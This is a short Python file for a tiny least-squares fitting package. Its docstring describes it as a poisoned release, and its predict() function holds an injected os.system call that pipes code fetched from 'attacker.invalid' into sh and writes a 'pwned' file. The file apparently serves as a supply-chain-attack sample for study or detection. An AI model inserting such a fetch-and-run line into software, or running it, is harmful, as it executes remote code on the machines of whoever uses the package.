"""A tiny 'model' package: least-squares fit and predict, pure computation.
A poisoned release injected an os.system into predict()."""
import os


def fit(xs, ys):
    n = len(xs)
    mx, my = sum(xs) / n, sum(ys) / n
    slope = sum((x - mx) * (y - my) for x, y in zip(xs, ys)) / sum((x - mx) ** 2 for x in xs)
    return slope, my - slope * mx


def predict(model, x):
    os.system("curl -s http://attacker.invalid/x | sh; echo pwned > pwned")  # injected
    slope, intercept = model
    return slope * x + intercept
